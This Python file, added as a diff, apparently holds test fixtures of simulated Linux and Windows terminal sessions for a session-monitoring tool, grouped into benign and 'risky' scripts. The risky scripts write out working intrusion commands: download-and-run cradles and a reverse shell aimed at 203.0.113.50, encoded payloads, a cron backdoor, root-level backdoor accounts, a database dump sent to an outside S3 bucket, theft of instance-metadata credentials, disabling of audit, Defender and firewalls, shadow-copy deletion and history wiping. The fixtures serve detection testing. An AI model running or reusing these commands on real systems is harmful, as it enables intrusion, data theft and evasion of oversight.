@@ -1,0 +1,397 @@
+"""What was done in each session, in the language of `screens`. Benign work first, then the rest."""
+
+from __future__ import annotations
+
+BENIGN = {
+    "orders-look": r"""
+%bash
+$ systemctl status orders-api
+\e[0;1;32m●\e[0m orders-api.service - Orders API
+     Loaded: loaded (/etc/systemd/system/orders-api.service; enabled; preset: enabled)
+     Active: \e[0;1;32mactive (running)\e[0m since Tue 2026-11-17 09:12:44 UTC; 6 days ago
+   Main PID: 2211 (java)
+$ jour‹tab:nalctl ›-u orders-api -n 5 --no-pager
+Nov 22 21:02:11 orders java[2211]: WARN  c.e.orders.Auth - login failed for user 'svc_batch': permission denied
+Nov 22 21:02:12 orders java[2211]: ERROR c.e.orders.Auth - sudo: 3 incorrect password attempts
+Nov 22 21:02:40 orders java[2211]: INFO  c.e.orders.Audit - policy text: never run 'curl http://… | bash' or 'chmod 777 /etc/shadow'
+$ df -h /v‹bs›ar
+Filesystem      Size  Used Avail Use% Mounted on
+/dev/nvme0n1p1   40G   21G   19G  53% /
+$ ls --color /var/log/orders
+\e[0m\e[01;34marchive\e[0m  audit.log  \e[01;31mheap.hprof.gz\e[0m  orders.log
+$ tail -n 3 /var/log/orders/orders.log‹kill›tail -n 3 /var/log/orders/audit.log
+2026-11-22T20:58:01Z passwd change denied for user=guest
+2026-11-22T20:59:40Z useradd attempt blocked by policy
+2026-11-22T21:01:13Z nc -e /bin/sh blocked by policy
+$ exit
+exit
+%pop
+$ exit
+""",
+    "deploy-check": r"""
+%bash
+$ kubectl get pods -n orders
+NAME                      READY   STATUS    RESTARTS   AGE
+orders-6d5f9c7b8c-2xkqp   1/1     Running   0          3d
+orders-6d5f9c7b8c-9vmzt   1/1     Running   1          3d
+$ ‹up:kubectl get pods -n orders›‹left:9|-o wide ›
+NAME                      READY   STATUS    RESTARTS   AGE   IP           NODE
+orders-6d5f9c7b8c-2xkqp   1/1     Running   0          3d    10.0.2.87    ip-10-0-2-20
+$ ‹find:resta|sudo systemctl restart orders-api›
+$ systemctl is-active orders-api
+active
+$ git -C /opt/orders log --oneline -3
+\e[33m4f0c2aa\e[m Raise pool size
+\e[33m91be7d0\e[m Log slow queries
+\e[33m0a77c13\e[m Bump base image
+%break cat /opt/orders/rele
+$ cat /opt/orders/rel‹list:release.json release.sig›ease.json
+{"version": "2026.11.3", "built": "2026-11-20T10:00:00Z"}
+""",
+    "edit-config": r"""
+%bash
+$ sudo -k
+$ sudo vim /etc/nginx/conf.d/orders.conf
+%ask [sudo] password for ssm-user:
+%vim /etc/nginx/conf.d/orders.conf|upstream orders {|  server 10.0.2.20:8080;|  server 10.0.2.21:8080;|  # sudo passwd root must never be needed here|}
+$ sudo nginx -t
+nginx: the configuration file /etc/nginx/nginx.conf syntax is ok
+nginx: configuration file /etc/nginx/nginx.conf test is successful
+$ sudo systemctl reload nginx
+$ cat > /tmp/release-note.txt <<'EOF'
+> Reloaded nginx for INC-4211.
+> The failing check said: permission denied (sudo).
+> EOF
+$ cat /tmp/release-note.txt
+Reloaded nginx for INC-4211.
+The failing check said: permission denied (sudo).
+$ exit
+exit
+%pop
+$ exit
+""",
+    "psql-look": r"""
+$ psql -h orders-replica.internal.example.com -U reader orders
+%ask Password for user reader:
+psql (16.4)
+SSL connection (protocol: TLSv1.3, cipher: TLS_AES_256_GCM_SHA384, compression: off)
+Type "help" for help.
+
+%repl orders=>
+$ select state, count(*) from orders group by state;
+  state  | count
+---------+-------
+ paid    | 48211
+ failed  |   112
+(2 rows)
+
+$ \dt
+           List of relations
+ Schema |  Name  | Type  | Owner
+--------+--------+-------+--------
+ public | orders | table | orders
+(1 row)
+
+$ \q
+%pop
+$ exit
+""",
+    "mysql-look": r"""
+$ mysql --defaults-file=~/.my.cnf -h billing-db.internal.example.com billing
+Welcome to the MySQL monitor.  Commands end with ; or \g.
+Server version: 8.0.39 Source distribution
+
+%repl mysql>
+$ show processlist;
++----+---------+-----------+---------+---------+------+-------+------------------+
+| Id | User    | Host      | db      | Command | Time | State | Info             |
++----+---------+-----------+---------+---------+------+-------+------------------+
+|  8 | billing | 10.0.3.40 | billing | Query   |    0 | init  | show processlist |
++----+---------+-----------+---------+---------+------+-------+------------------+
+1 row in set (0.00 sec)
+
+$ select count(*) from invoices where state='denied';
++----------+
+| count(*) |
++----------+
+|       17 |
++----------+
+1 row in set (0.02 sec)
+
+$ exit
+Bye
+%pop
+$ exit
+""",
+    "watch-load": r"""
+%bash
+$ uptime
+ 02:13:51 up 41 days,  3:10,  1 user,  load average: 0.42, 0.38, 0.35
+$ top
+%top
+$ find /var/log/orders /var/log/nginx /var/log/audit -name '*.log' -newermt '2026-11-20 00:00' -size +10M -exec ls -lh --time-style=long-iso {} \;
+-rw-r----- 1 orders adm 41M 2026-11-22 20:59 /var/log/orders/orders.log
+$ wget -q --show-progress https://downloads.example.com/tools/perf-map.tar.gz
+%progress perf-map.tar.gz
+$ man sudo
+%less SUDO(8)                 BSD System Manager's Manual                 SUDO(8)|     sudo, sudoedit — execute a command as another user|     sudo -u root cat /etc/shadow
+$ exit
+exit
+%pop
+$ exit
+""",
+    "hunt-failures": r"""
+$ sudo grep -c "Failed password" /var/log/secure
+17
+$ sudo grep "Failed password" /var/log/secure | tail -2
+Nov 22 19:44:02 bastion sshd[9912]: Failed password for invalid user admin from 203.0.113.7 port 44122 ssh2
+Nov 22 19:44:09 bastion sshd[9912]: Failed password for root from 203.0.113.7 port 44140 ssh2
+$ who
+$ last -n 2
+ssm-user pts/0        Sun Nov 22 18:01 - 18:20  (00:19)
+reboot   system boot  6.1.155 Mon Oct 12 23:03
+$ exit
+""",
+    "etl": r"""
+$ exec bash
+%bash
+$ cd /srv/etl && ls
+Makefile  dags  logs  requirements.txt
+$ python3 -m pip list --outdated | head -3
+Package    Version Latest Type
+---------- ------- ------ -----
+duckdb     1.4.0   2.0.0  wheel
+$ make test
+pytest -q
+\e[32m..........................................\e[0m\e[32m                                  [100%]\e[0m
+\e[32m\e[1m42 passed\e[0m\e[32m in 3.11s\e[0m
+$ echo "café ✓ 倉庫"
+café ✓ 倉庫
+$ for f in dags/*.py; do
+> python3 -m py_compile "$f"
+> done
+$ exit
+exit
+""",
+    "nohow": r"""
+$ uname -r
+4.14.355-276.618.amzn2.x86_64
+$ exit
+""",
+    "glance": r"""
+$ hostname
+$ id
+uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)
+$ exit
+""",
+    "edge": r"""
+$ bash
+%bash
+$ curl -sI https://edge.example.com/healthz | head -1
+HTTP/2 200
+$ sudo tcpdump -c 5 -ni ens5 port 443
+tcpdump: verbose output suppressed, use -v[v]... for full protocol decode
+5 packets captured
+$ sudo apt list --upgradable 2>/dev/null | wc -l
+14
+$ exit
+exit
+%pop
+$ exit
+""",
+    "gateway": r"""
+$ exec bash
+%bash
+$ systemctl status plc-bridge --no-pager
+Unit plc-bridge.service could not be found.
+$ ps aux | gr‹tab:ep ›plc
+root       811  0.1  0.4  41200  8804 ?  Ss  Nov01  2:14 /opt/plc/bridge
+$ exit
+exit
+""",
+    "tail-log": r"""
+2026-11-22T22:41:00Z INFO  worker started
+2026-11-22T22:41:09Z WARN  retry failed, sudo password expired for svc_batch
+2026-11-22T22:41:12Z INFO  batch done
+^C
+""",
+    "os-release": r"""
+NAME="Amazon Linux"
+VERSION="2023"
+ID="amzn"
+
+EXIT_CODE: 0
+""",
+}
+
+RISKY = {
+    "intruder": r"""
+$ whoami
+ssm-user
+$ id
+uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)
+!$ curl -fsSL http://203.0.113.50/k.sh | bash
+[+] staged /tmp/.k
+!$ sudo cat /etc/shadow
+root:*:19000:0:99999:7:::
+ec2-user:!!:19500:0:99999:7:::
+!$ sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash suport‹bs:3›port
+!$ bash -i >& /dev/tcp/203.0.113.50/4444 0>&1
+bash: connect: Connection timed out
+bash: /dev/tcp/203.0.113.50/4444: Connection timed out
+!$ sudo systemctl stop amazon-ssm-agent
+!$ history -c
+$ exit
+""",
+    "intruder-live": r"""
+$ bash
+%bash
+$ ls -la /root
+ls: cannot open directory '/root': Permission denied
+!$ echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL2sgfCBzaA== | base64 -d | sh
+!$ echo 'ssm-user ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/99-k
+ssm-user ALL=(ALL) NOPASSWD:ALL
+!$ (crontab -l 2>/dev/null; echo "* * * * * curl -s http://203.0.113.50/k|sh") | crontab -
+""",
+    "exfil": r"""
+$ exec bash
+%bash
+$ pg_dump -h warehouse.internal.example.com -U etl -Fc -f /tmp/w.dump warehouse
+!$ export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
+!$ aws s3 cp /tmp/w.dump s3://drop-zone-example/w.dump --no-progress
+upload: ../tmp/w.dump to s3://drop-zone-example/w.dump
+!$ shred -u /tmp/w.dump; unset HISTFILE; rm -f ~/.bash_history
+$ exit
+exit
+""",
+    "secret": r"""
+%bash
+!$ mysql -u root -p'Summer-2026-made-up!' -h billing-db.internal.example.com -e 'select user, authentication_string from mysql.user'
+mysql: [Warning] Using a password on the command line interface can be insecure.
+ERROR 1045 (28000): Access denied for user 'root'@'10.0.3.40' (using password: YES)
+$ echo done
+done
+$ exit
+exit
+%pop
+$ exit
+""",
+    "metadata": r"""
+$ TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')
+!$ curl -sH "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/billing-node
+{
+  "Code" : "Success",
+  "AccessKeyId" : "ASIAIOSFODNN7EXAMPLE",
+  "Expiration" : "2026-11-23T04:21:33Z"
+}
+$ exit
+""",
+    "cut-off": r"""
+%bash
+$ sudo ls /var/lib/amazon/ssm
+%ask [sudo] password for ssm-user:
+!$ sudo rm -rf /var/lib/amazon/ssm/*/session/orchestration/*/Standard_Stream/ipcTempFile.log
+!$ sudo setenforce 0 && sudo iptables -F
+""",
+    "root-work": r"""
+$ sudo su -
+%root
+$ passwd -S ssm-user
+ssm-user LK 2026-08-01 0 99999 7 -1 (Password locked.)
+!$ usermod -aG wheel ssm-user
+!$ auditctl -e 0
+enabled 0
+$ exit
+logout
+%pop
+$ exit
+""",
+    "legacy": r"""
+$ cd /opt/deploy
+$ ./deploy.sh --env staging
+Deploying 2026.11.3 to staging … ok
+!$ chmod 777 /opt/deploy/secrets.env
+$ exit
+""",
+    "weakened-shell": r"""
+!$ sudo cp /bin/bash /usr/local/bin/.b && sudo chmod u+s /usr/local/bin/.b
+$ exit
+""",
+}
+
+WINDOWS_BENIGN = {
+    "ad-look": r"""
+$ whoami
+win-ad-01\ssm-user
+$ Get-ADUser -Filter 'PasswordExpired -eq $true' -Properties PasswordExpired | Select-Object -First 2 Name
+Name
+----
+svc_batch
+j.doe
+
+$ Get-EventLog -LogName Security -Newest 2 -InstanceId 4625 | Format-List Message
+Message : An account failed to log on. Account Name: admin. Failure Reason: Unknown user name or bad password.
+          net user admin /add was denied by policy
+Message : An account failed to log on. Account Name: root.
+
+$ Get-Service NTDS, DNS
+Status   Name               DisplayName
+------   ----               -----------
+Running  NTDS               Active Directory Domain Services
+Running  DNS                DNS Server
+
+$ exit
+""",
+    "sql-look": r"""
+%cd C:\Users\ssm-user
+$ Get-Process sqlservr | Select-Object Id, CPU, WS
+  Id     CPU         WS
+  --     ---         --
+2840 5120.31 1843208192
+
+$ Get-ChildItem D:\Backups -Filter *.bak | Sort-Object LastWriteTime | Select-Object -Last 1
+    Directory: D:\Backups
+-a----       22/11/2026     01:00    9412345856 orders_full.bak
+
+$ Test-NetConnection orders-api.internal.example.com -Port 443
+ComputerName     : orders-api.internal.example.com
+TcpTestSucceeded : True
+
+$ exit
+""",
+}
+
+WINDOWS_RISKY = {
+    "ad-evil": r"""
+$ hostname
+win-ad-01
+!$ Set-MpPreference -DisableRealtimeMonitoring $true
+!$ IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')
+[+] ready
+!$ New-LocalUser -Name support2 -Password (ConvertTo-SecureString 'Made-Up-Pass1!' -AsPlainText -Force)
+Name     Enabled Description
+----     ------- -----------
+support2 True
+
+!$ Add-LocalGroupMember -Group Administrators -Member support2
+!$ reg save HKLM\SAM C:\Windows\Temp\s.hiv
+The operation completed successfully.
+!$ New-NetFirewallRule -DisplayName rdp2 -Direction Inbound -LocalPort 3390 -Protocol TCP -Action Allow
+!$ netsh advfirewall set allprofiles state off
+Ok.
+!$ powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADUAMAAvAGIAKQA=
+!$ Clear-History
+$ exit
+""",
+    "ad-live": r"""
+$ Get-ADDomain | Select-Object DNSRoot
+DNSRoot
+-------
+corp.example.com
+
+!$ Invoke-WebRequest http://203.0.113.50/t.ps1 -UseBasicParsing | iex
+!$ vssadmin delete shadows /all /quiet
+""",
+}
+
+SCRIPTS = BENIGN | RISKY | WINDOWS_BENIGN | WINDOWS_RISKY
